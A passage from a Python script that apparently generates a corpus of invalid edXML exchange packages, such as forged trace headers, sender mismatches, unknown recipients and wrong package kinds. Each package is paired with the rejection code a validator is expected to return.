add("forged-trace-header-first.edxml", document(traces=trace_list(traces=hub_trace + sender_trace)), G, "TraceHeaderList/TraceHeader[1]/OrganId")
add("forged-trace-header-lowercase.edxml", document(traces=trace_list(traces=sender_trace + hub_trace.replace("G22", "g22"))), G, "TraceHeaderList/TraceHeader[2]/OrganId")
add("forged-trace-header-only.edxml", document(traces=trace_list(traces=hub_trace)), G, "TraceHeaderList/TraceHeader[1]/OrganId")

# --- Refused by the exchange rules after reading ---------------------------------------------------
add("status-for-document-never-sent.edxml", status(), "UNKNOWN_DOCUMENT", "Status/ResponseFor/DocumentId", S)
add("status-reject-for-document-never-sent.edxml", status(code="02", description="Sai thẩm quyền"), "UNKNOWN_DOCUMENT", "Status/ResponseFor/DocumentId", S)
add("status-from-another-agency.edxml", status(from_=org("From", "000.00.05.H20")), "SENDER_MISMATCH", "Status/From/OrganId", S)
add("from-another-agency.edxml", document(mh=message_header(from_=org("From", "000.00.00.G22"))), "SENDER_MISMATCH", "MessageHeader/From/OrganId")
add("unknown-recipient.edxml", document(mh=message_header(to=org("To", RECIPIENT) + org("To", "000.00.88.H20"))), "UNKNOWN_RECIPIENT", "MessageHeader/To[2]/OrganId")
add("status-sent-as-document.edxml", status(), "WRONG_PACKAGE_KIND", "edXMLHeader/Status")
add("document-sent-as-status.edxml", base, "WRONG_PACKAGE_KIND", "edXMLHeader/MessageHeader", S)

shutil.rmtree(OUT, ignore_errors=True)
os.makedirs(OUT)
names = set()
with open(os.path.join(OUT, "expected.properties"), "w", encoding="utf-8") as index:
    index.write("# file = CODE|element|endpoint  (generated by ejb/src/test/edxml-corpus/generate.py)\n")
    for name, data, code, element, endpoint in cases:
        assert name not in names, name
        names.add(name)
        with open(os.path.join(OUT, name), "wb") as f:
            f.write(data)
        index.write(f"{name}={code}|{element}|{endpoint}\n")
print(len(cases), "cases")
